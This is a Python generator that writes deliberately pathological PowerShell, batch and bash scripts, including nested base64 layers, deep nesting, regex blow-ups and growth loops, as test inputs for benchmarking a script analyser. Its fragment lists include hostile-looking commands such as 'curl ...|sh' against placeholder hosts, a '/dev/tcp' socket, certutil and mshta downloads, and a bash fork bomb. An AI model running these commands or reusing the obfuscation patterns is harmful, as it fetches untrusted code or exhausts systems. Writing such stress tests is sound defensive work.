#!/usr/bin/env python3
# gen-hostile-scripts.py
#
# Writes scripts of one size that nobody writes but to make an analyser slow or
# large, as the JSON lines that `vedette-cli script --batch` reads:
#
#     gen-hostile-scripts.py [--size BYTES] [--seed N] [--random N] > cases
#     bench-script --each < cases
#
# Three kinds: one piece over and over again, pieces in growing structures
# (chains of variables, nests, doublings), and N random mixtures a language of
# the words and signs that mean something to it.
#
# SPDX-License-Identifier: MIT
import argparse
import base64
import json
import random
import sys

PIECES = {
    "powershell": [
        "(", "{", "[", "@(", "$(", "\"$(", "'a'+", "('a'+'b')+", "a.b.", "[a]::b(", "1,", "@{a=", "if(1){",
        "function f{", "foreach($a in ", "`", "\"", "'", "@'\n", "<#", "-join ", "!", "[char]", "$a=$a+$a;",
        "| % { ", "iex '", "a;", "${", "|", "$x+='aaaaaaaaaaaaaaaaaaaa';", "$x=\"$x$x\";", ".('a')", "-f ",
        "\u00e9", "while(1){", "sv a $a;", "powershell -enc ", "'x'.Replace('a','b')", "$a[0]", "foo ;",
        "[int]1;", "$a='b';&('a'+'b');", "powershell ", "cmd /c ", "powershell -c \"", "iex(iex(", "$a|iex;",
        "$env:a;", "[char]65+", "[char[]](65,66);", "'{0}'-f'a';", "\"{0}{1}\"-f 'a','b';", "-bxor 1",
        "[convert]::FromBase64String('QUJD');", "'a,b'.Split(',');", "(1..9);", "1..9|%{$_};", "$h=@{};",
        "$a.b=1;", "try{}catch{};", "switch(1){1{2}};", "param($a)", "filter f{$_};", "&{", ".{", "Set-Alias a b;",
        "New-Object Net.WebClient;", "http://a.example/b ", "192.0.2.1 ", "C:\\a\\b.exe ", "HKCU:\\a\\b ",
        "a@example.com ", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=", "-replace 'a','b'", "$a-split'b'", "\u2018", "\u201c",
        "[Text.Encoding]::UTF8.GetString(", "[scriptblock]::Create('a');", "@\"\n$a\n\"@\n", "#a\n", "\n", "a\n",
        "$a=1\n", "f 1;", "function f{f}f;", "$($($a))", "\"$a$b$c\"", "[a]", "::a", "..", "--", "++", "%{", "?{",
        "cmd /c powershell -c ", "schtasks /tr a ", "wmic process call create \"", "mshta javascript:a ",
        "rundll32 a,b ", "reg add HKCU\\a /v b /d c;", "%a%", "(gv a).value;", "[string]::join('',", "'a'*9;",
    ],
    "batch": [
        "(", ")", "^", "%", "%a%", "!", "!a!", "\"", "&", "|", "<", ">", "set a=b\n", "set a=%a%%a%\n", "set a=%a%b\n",
        "if 1==1 ", "if (", "for %%a in (a) do ", "for /l %%a in (1,1,9) do ", "for /f %%a in ('a') do ", "call ",
        "call :a\n", ":a\n", "goto a\n", "echo a\n", "echo a>b\n", "echo a^\n", "cmd /c ", "cmd /v /c \"", "powershell ",
        "powershell -c \"", "%a:~0,1%", "%a:b=c%", "!a:~0,1!", "@", ",", ";", "=", "rem a\n", "::a\n", "\n", "a\n",
        "a&b\n", "a&&b||c\n", "set /a a+=1\n", "set /a a=(", "set /p a=b\n", "set /p=\"a\"<nul>>b\n", "setlocal\n",
        "setlocal enabledelayedexpansion\n", "endlocal\n", "for /f \"tokens=1\" %%a in (", "start a ", "start /b cmd /c ",
        "certutil -decode a b\n", "a %%a\n", "a%%", "%~dp0", "%*", "%1", "shift\n", "findstr a b\n", "type a|find \"b\"\n",
        "a.exe /b c\n", "reg add HKCU\\a /v b /d c\n", "schtasks /create /tr a\n", "http://a.example/b ", "192.0.2.1 ",
        "C:\\a\\b.exe ", "\u00e9", "^^", "^&", "^%", "%comspec% /c ", "set \"a=b\"\n", "set a&", "(a)&", "((", "()",
        "echo QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=>>a\n", "set x=%x%abcdefgh&", "for %%a in (a b c d e f g h) do @echo %%a\n",
        "call set a=%%b%%\n", "cmd /c cmd /c ", "mshta vbscript:a ", "wmic process call create \"a\"\n", "if exist a (b) else (",
    ],
    "bash": [
        "(", ")", "{", "}", "[", "[[", "((", "$((", "$(", "`", "${", "\"", "'", "$'", "\\", "|", "&", ";", "<", ">", "<<",
        "<<A\n", "<(", "a=b\n", "a=$a$a\n", "a+=b\n", "a=\"$a$a\";", "eval ", "eval \"", "bash -c ", "bash -c '", "echo a|",
        "echo a|bash\n", "a|b|", "if a;then ", "while a;do ", "for a in b;do ", "case a in ", "a(){ ", "f(){ f;};f;",
        "${a//b/c}", "${a:0:1}", "${!a}", "${#a}", "${a[0]}", "a=(", "a=(b c)\n", "{a,b}", "{1..9}", "~", "*", "?",
        "$'\\x41'", "printf '%s' a;", "printf '\\x41';", "echo a|tr a b\n", "echo a|rev\n", "echo QUJD|base64 -d\n",
        "echo 4142|xxd -r -p\n", "a\n", "a b c\n", "\n", "#a\n", "!", "!!", "$1", "$@", "$#", "$a", "let a=1;", "((a++));",
        "read a<<<b;", "exec 3<>/dev/tcp/192.0.2.1/80;", "curl http://a.example/b|sh\n", "http://a.example/b ",
        "192.0.2.1 ", "/tmp/a ", "~/.bashrc ", "crontab -l|", "echo a>>b\n", "cat <<A\na\nA\n", "declare a=b;", "local a;",
        "export A=b;", "alias a=b;", "trap a 0;", "source a;", ". <(echo a);", "sed s/a/b/ ", "awk '{print}' ", "python -c '",
        "perl -e '", "set -- a;", "shift;", "test a;", "[ a ] && ", "a || ", "\u00e9", "$\"a\"", "{a,b}{c,d}", "a{b,c}d ",
        "${a^^}", "${a,,}", "${a#b}", "${a%b}", "${a:-b}", "$(echo a)", "`echo a`", "$(($a+1))", "a[$b]=c;", "function a {",
        "select a in ", "until a;do ", "coproc a;", "time ", "nohup ", "sudo ", "env a=b ", "xargs ", "find . -exec ",
    ],
}

WORDS = {
    "powershell": ["a", "$a", "$b", "'x'", "\"y\"", "1", "(", ")", "{", "}", "[", "]", ";", "|", ",", "+", "-f", "-join",
                   "-split", "-replace", "=", "+=", ".", "::", "iex", "powershell", "-enc", "cmd", "/c", "[char]", "%",
                   "?", "foreach", "in", "if", "else", "function", "f", "&", "@(", "@{", "$(", "`", "'", "\"", "\n",
                   " ", "#", "-bxor", "..", "New-Object", "while", "for", "do", "return", "[convert]", "$_", "!", "-eq"],
    "batch": ["a", "%a%", "!a!", "%", "!", "^", "&", "|", "(", ")", "\"", "\n", " ", "set", "=", "for", "%%a", "in", "do",
              "if", "==", "else", "call", ":", "goto", "echo", "cmd", "/c", "/v", "powershell", ">", "<", "~", ",", ";",
              "1", "/l", "/f", "'", "@", "set /a", "+", "exist", "not", "start", "rem", "setlocal enabledelayedexpansion"],
    "bash": ["a", "$a", "${a}", "$(", ")", "(", "`", "{", "}", "[", "]", "\"", "'", "\\", "\n", " ", ";", "|", "&", "<",
             ">", "=", "+=", "echo", "eval", "bash", "-c", "for", "in", "do", "done", "if", "then", "fi", "while",
             "case", "esac", "printf", "base64", "-d", "$((", "))", "<<A", "A", "tr", "rev", "sed", "1", "*", "?", "$",
             "#", "!", ",", "..", "//", ":", "@", "%", "~", "local", "export", "alias", "function", "f()"],
}


def fill(make, size):
    """Joins make(0), make(1), … to about size bytes."""
    parts, total, i = [], 0, 0
    while total < size:
        part = make(i)
        parts.append(part)
        total += len(part.encode())
        i += 1
    return "".join(parts)


def powershell_structures(size):
    quoted = "'" + "x" * 2000 + "'"
    yield "chain", fill(lambda i: f"$v{i + 1}=$v{i}+'ab';", size)
    yield "chain-run", "$v0='a';" + fill(lambda i: f"$v{i + 1}=$v{i}+'ab';", size)
    yield "many-variables", fill(lambda i: f"$v{i}='{i}';", size)
    yield "double-then-use", "$a='abcdefgh';" + "$a=$a+$a;" * 40 + "iex $a;" * (size // 8)
    yield "double-names", "$a0='abcdefgh';" + fill(lambda i: f"$a{i + 1}=$a{i}+$a{i};", size)
    yield "grow", "$a='';" + fill(lambda i: f"$a+={quoted};", size)
    yield "grow-and-show", "$a='';" + fill(lambda i: "$a+='abcdefgh';foo $a;", size)
    yield "grow-and-run", "$a='';" + fill(lambda i: "$a+='abcdefgh;';iex $a;", size)
    yield "array-grow", "$a=@();" + "$a+=1;" * (size // 6)
    yield "array-double", "$a=1,2;" + "$a=$a+$a;" * (size // 9)
    yield "loop-grow", "$a='a';for($i=0;$i -lt 100000;$i++){$a=$a+$a};" + "foo $a;" * (size // 7)
    yield "loop-nest", "foreach($i in 1..1000){" * 30 + "$a+=1" + "}" * 30 + " " * size
    yield "loop-run", "1..100000|%{iex 'foo $_'};" + " " * size
    yield "loop-layers", "1..100000|%{powershell -enc " + base64.b64encode("foo bar".encode("utf-16le")).decode() + "}"
    yield "recursion", "function f{f;f};f;" * (size // 18)
    yield "run-itself", "$s='iex $s';iex $s;" * (size // 19)
    yield "run-many", fill(lambda i: f"iex 'foo {i}';", size)
    yield "run-long", "iex '" + "foo bar;" * (size // 8) + "'"
    yield "encoded-long", "powershell -enc " + base64.b64encode(("foo bar;" * (size // 24)).encode("utf-16le")).decode()
    text = "foo"
    while len(text) < size // 3:
        text = "powershell -enc " + base64.b64encode(text.encode("utf-16le")).decode()
    yield "encoded-nest", text
    text = "foo"
    for _ in range(14):
        text = "iex '" + text.replace("'", "''") + "'"
    yield "quoted-nest", (text + ";") * max(1, size // (len(text) + 1))
    yield "nest-parens", "(" * (size // 2) + ")" * (size // 2)
    yield "nest-braces", "&{" * (size // 3) + "}" * (size // 3)
    yield "nest-calls", "[a]::b(" * (size // 8) + ")" * (size // 8)
    yield "long-word", "a" * size
    yield "long-string", "'" + "a" * size + "'"
    yield "long-base64", "'" + base64.b64encode(bytes(i * 7 % 256 for i in range(size * 3 // 4))).decode() + "'"
    yield "long-numbers", "foo " + ",".join(str(i % 256) for i in range(size // 4))
    yield "long-chars", "iex(" + "+".join(f"[char]{97 + i % 26}" for i in range(size // 9)) + ")"
    yield "long-format", "iex('" + fill(lambda i: f"{{{i}}}", size // 2) + "'-f " + fill(lambda i: "'a',", size // 2) + "'a')"
    yield "long-hash", "$h=@{" + fill(lambda i: f"k{i}={i};", size) + "}"
    yield "xor-loop", "$b=[convert]::FromBase64String('" + "QUJD" * (size // 4) + "');for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 7};iex([Text.Encoding]::ASCII.GetString($b))"
    yield "regex-blow", "'" + "a" * 3000 + "!' -match '^(a+)+$';" + "'aaaaaaaaaaaaaaaaaaaaaaaaaaaa!' -replace '(a|a)*$','b';" * (size // 70)
    yield "replace-blow", "$x='" + "x" * 4000 + "';" + "$x=$x.Replace('x','xx');" * (size // 24)
    yield "split-blow", "$x='" + "x," * (size // 4) + "';" + "$x.Split(',') -join ',';" * 2000
    yield "repeat", "'a'*100000000;" * (size // 15)
    yield "range", "1..100000000|%{$_};" * (size // 19)
    yield "urls", fill(lambda i: f"iwr http://h{i}.example.net/{i};", size)
    yield "addresses", fill(lambda i: f"ping 198.51.{i // 256 % 256}.{i % 256};", size)
    yield "commands", fill(lambda i: f"Invoke-Thing{i} -A {i};", size)
    yield "pipes", "a" + "|b" * (size // 2)
    yield "functions", fill(lambda i: f"function f{i}{{f{i + 1}}};", size) + "f0"
    yield "function-fan", fill(lambda i: f"function f{i}{{f{i + 1};f{i + 1}}};", size) + "f0"
    yield "aliases", fill(lambda i: f"Set-Alias a{i + 1} a{i};", size) + "a999 b"
    yield "here-strings", "@'\nfoo\n'@;\n" * (size // 11)


def batch_structures(size):
    yield "chain", "set v0=a\n" + fill(lambda i: f"set v{i + 1}=%v{i}%b\n", size)
    yield "many-variables", fill(lambda i: f"set v{i}=abc{i}\n", size)
    yield "use-variables", fill(lambda i: f"set v{i}=a\n", size // 2) + "echo " + fill(lambda i: f"%v{i}%", size // 2)
    yield "double-then-use", "set a=abcdefgh\n" + "set a=%a%%a%\n" * 40 + "echo %a%\n" * (size // 9)
    yield "double-names", "set a0=abcdefgh\n" + fill(lambda i: f"set a{i + 1}=%a{i}%%a{i}%\n", size)
    yield "grow", "set a=\n" + "set a=%a%abcdefgh\n" * (size // 18)
    yield "grow-line", "set a=&" + "set a=!a!abcdefgh&" * (size // 18)
    yield "grow-and-run", "set a=b\n" + "set a=%a%abcdefgh\n%a%\n" * (size // 22)
    yield "grow-call", "set a=b\n" + "call set a=%%a%%abcdefgh\ncall %%a%%\n" * (size // 36)
    yield "loop-grow", "@echo off\nsetlocal enabledelayedexpansion\nset a=a\nfor /l %%i in (1,1,100000) do set a=!a!!a!\n" + "echo !a!\n" * (size // 9)
    yield "loop-run", "for /l %%i in (1,1,100000) do cmd /c echo %%i\n"
    yield "loop-nest", "for /l %%i in (1,1,1000) do " * 20 + "echo a\n" + " " * size
    yield "for-long", "for %%i in (" + "a " * (size // 2) + ") do echo %%i"
    yield "for-coded", "cmd /v /c \"set a=" + "abcdefghij" * 20 + "&for %i in (" + fill(lambda i: f"{i % 200} ", size) + "1337) do set b=!b!!a:~%i,1!&if %i==1337 call %b%\""
    yield "goto-loop", ":a\nset /a i+=1\ngoto a\n" + " " * size
    yield "call-loop", ":a\ncall :a\ncall :a\n" * (size // 19)
    yield "call-fan", fill(lambda i: f":f{i}\ncall :f{i + 1}\ncall :f{i + 1}\n", size)
    yield "labels", fill(lambda i: f":l{i}\n", size) + "goto l5\n"
    yield "gotos", fill(lambda i: f"goto l{i + 1}\n:l{i + 1}\n", size)
    yield "carets", "^" * size
    yield "careted", "".join("^" + c for c in "powershell -c foo ") * (size // 36)
    yield "quotes", "\"" * size
    yield "nest-parens", "(" * (size // 2) + ")" * (size // 2)
    yield "nest-if", "if 1==1 (" * (size // 9) + ")" * (size // 9)
    yield "nest-cmd", "cmd /c " * (size // 7) + "echo a"
    yield "nest-quoted", "cmd /c \"" * (size // 8) + "echo a"
    yield "long-word", "a" * size
    yield "long-set", "set a=" + "a" * size + "\necho %a%\n"
    yield "substrings", "set a=abcdefghijklmnopqrstuvwxyz\n" + fill(lambda i: f"%a:~{i % 26},1%", size)
    yield "replaces", "set a=" + "xy" * 2000 + "\n" + "set a=%a:x=xx%\n" * (size // 15)
    yield "arith", "set /a a=1" + "+1" * (size // 2)
    yield "arith-nest", "set /a a=" + "(" * (size // 2) + "1" + ")" * (size // 2)
    yield "echo-file", fill(lambda i: f"echo line {i}>>a.txt\n", size) + "type a.txt\ncmd<a.txt\n"
    yield "echo-script", fill(lambda i: f"echo echo {i}>>a.cmd\n", size) + "call a.cmd\n" * 50
    yield "urls", fill(lambda i: f"certutil -urlcache -f http://h{i}.example.net/{i} a\n", size)
    yield "commands", fill(lambda i: f"thing{i} /a {i}\n", size)
    yield "pipes", "a" + "|b" * (size // 2)
    yield "ampersands", "a" + "&b" * (size // 2)
    yield "powershells", "powershell -enc " + base64.b64encode("foo".encode("utf-16le")).decode() + "\n" + "powershell -c foo\n" * (size // 18)
    yield "set-p", "<nul set /p=abc>>a\n" * (size // 19)


def bash_structures(size):
    yield "chain", "v0=a\n" + fill(lambda i: f"v{i + 1}=$v{i}b\n", size)
    yield "many-variables", fill(lambda i: f"v{i}=abc{i}\n", size)
    yield "use-variables", fill(lambda i: f"v{i}=a\n", size // 2) + "echo " + fill(lambda i: f"$v{i}", size // 2)
    yield "double-then-use", "a=abcdefgh\n" + "a=$a$a\n" * 40 + "echo $a\n" * (size // 8)
    yield "double-names", "a0=abcdefgh\n" + fill(lambda i: f"a{i + 1}=$a{i}$a{i}\n", size)
    yield "double-default", fill(lambda i: f"echo ${{a{i}:=bcdefgh$a{i - 1}$a{i - 1}}}\n", size)
    yield "grow", "a=\n" + "a=${a}abcdefgh\n" * (size // 15)
    yield "grow-show", "a=\n" + "a+=abcdefgh;echo $a\n" * (size // 20)
    yield "grow-run", "a=b\n" + "a=\"$a;abcdefgh\";eval \"$a\"\n" * (size // 27)
    yield "grow-pipe", "a=b\n" + "a=\"$a;abcdefgh\";echo \"$a\"|bash\n" * (size // 31)
    yield "loop-grow", "a=a;while true;do a=$a$a;done;" + "echo $a\n" * (size // 8)
    yield "loop-run", "for i in {1..100000};do bash -c \"echo $i\";done"
    yield "loop-nest", "for i in {1..1000};do " * 20 + "echo a;" + "done;" * 20
    yield "braces", "echo " + "{a,b}" * 40 + " " * size
    yield "braces-nest", "echo " + "{a," * (size // 4) + "b" + "}" * (size // 4)
    yield "brace-range", "echo {1..1000000}{1..1000000}\n" * (size // 30)
    yield "brace-words", fill(lambda i: "echo {a,b,c}{d,e,f}{g,h,i}\n", size)
    yield "recursion", "f(){ f;f;};f\n" * (size // 13)
    yield "fork-bomb", ":(){ :|:&};:\n" * (size // 13)
    yield "function-fan", fill(lambda i: f"f{i}(){{ f{i + 1};f{i + 1};}}\n", size) + "f0\n"
    yield "eval-itself", "a='eval \"$a\"';eval \"$a\"\n" * (size // 25)
    yield "eval-many", fill(lambda i: f"eval 'foo {i}'\n", size)
    yield "eval-long", "eval '" + "foo bar;" * (size // 8) + "'"
    text = "foo"
    while len(text) < size // 2:
        text = "echo " + base64.b64encode(text.encode()).decode() + "|base64 -d|bash"
    yield "encoded-nest", text
    yield "encoded-long", "echo " + base64.b64encode(b"foo bar\n" * (size // 12)).decode() + "|base64 -d|bash"
    yield "substitutions", "echo " + "$(echo a)" * (size // 9)
    yield "substitution-nest", "echo " + "$(echo " * (size // 8) + "a" + ")" * (size // 8)
    yield "substitution-double", "a=b;" + "a=$(echo $a$a);" * (size // 15)
    yield "backtick-nest", "`" * size
    yield "nest-parens", "(" * (size // 2) + ")" * (size // 2)
    yield "nest-groups", "{ " * (size // 4) + "}" * (size // 4)
    yield "nest-if", "if a;then " * (size // 13) + "fi;" * (size // 13)
    yield "nest-arith", "echo $((" + "(" * (size // 2) + "1" + ")" * (size // 2) + "))"
    yield "long-arith", "echo $((1" + "+1" * (size // 2) + "))"
    yield "long-word", "a" * size
    yield "long-string", "echo '" + "a" * size + "'"
    yield "long-escapes", "echo $'" + "\\x41" * (size // 4) + "'"
    yield "long-printf", "printf '" + "\\x41" * (size // 4) + "'|bash"
    yield "long-array", "a=(" + "b " * (size // 2) + ");echo ${a[@]}"
    yield "array-index", "a=(b c d);" + "echo ${a[1]};" * (size // 13)
    yield "array-sets", fill(lambda i: f"a[{i}]=b;", size) + "echo ${a[*]}\n" * 100
    yield "replaces", "a=" + "xy" * 2000 + "\n" + "a=${a//x/xx}\n" * (size // 13)
    yield "patterns", "a=" + "a" * 3000 + "\n" + "echo ${a##*a*a*a*a*b}\n" * (size // 22)
    yield "sed-blow", "echo " + "a" * 3000 + "|" + "sed 's/a/aa/g'|" * (size // 16) + "cat"
    yield "tr-chain", "echo abc|" + "tr a-z b-za|" * (size // 12) + "bash"
    yield "rev-chain", "echo abc|" + "rev|" * (size // 4) + "bash"
    yield "heredocs", "cat <<A\nfoo\nA\n" * (size // 14)
    yield "heredoc-run", "bash <<A\nfoo\nA\n" * (size // 15)
    yield "heredoc-open", fill(lambda i: f"cat <<A{i}\n", size)
    yield "case-long", "case a in " + "b)c;;" * (size // 5) + "esac"
    yield "urls", fill(lambda i: f"curl http://h{i}.example.net/{i}|sh\n", size)
    yield "commands", fill(lambda i: f"thing{i} -a {i}\n", size)
    yield "pipes", "a" + "|b" * (size // 2)
    yield "aliases", fill(lambda i: f"alias a{i + 1}=a{i}\n", size) + "a999\n"
    yield "indirect", fill(lambda i: f"v{i + 1}=v{i};echo ${{!v{i + 1}}}\n", size)
    yield "files", fill(lambda i: f"echo line {i}>>/tmp/a\n", size) + "bash /tmp/a\n" * 50
    yield "history", fill(lambda i: f" {i + 1}  echo a{i}\n", size)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--size", type=int, default=256 * 1024)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--random", type=int, default=30, help="random mixtures a language")
    options = parser.parse_args()

    structures = {"powershell": powershell_structures, "batch": batch_structures, "bash": bash_structures}
    source = random.Random(options.seed)

    for lang in PIECES:
        cases = [("piece " + piece, piece * (options.size // len(piece.encode()))) for piece in PIECES[lang]]
        cases += structures[lang](options.size)
        for i in range(options.random):
            words = source.sample(WORDS[lang], source.randint(2, len(WORDS[lang])))
            gap = source.choice(["", " ", " ", "\n"])
            cases.append((f"random {i}", fill(lambda _: source.choice(words) + gap, options.size)))
        for i in range(options.random // 3):
            pieces = source.sample(PIECES[lang], source.randint(2, 12))
            cases.append((f"mixture {i}", fill(lambda _: source.choice(pieces), options.size)))

        for name, script in cases:
            script = script.encode()[:options.size].decode(errors="ignore")
            json.dump({"id": f"{lang} {name}", "lang": lang, "script": script}, sys.stdout)
            sys.stdout.write("\n")


if __name__ == "__main__":
    main()
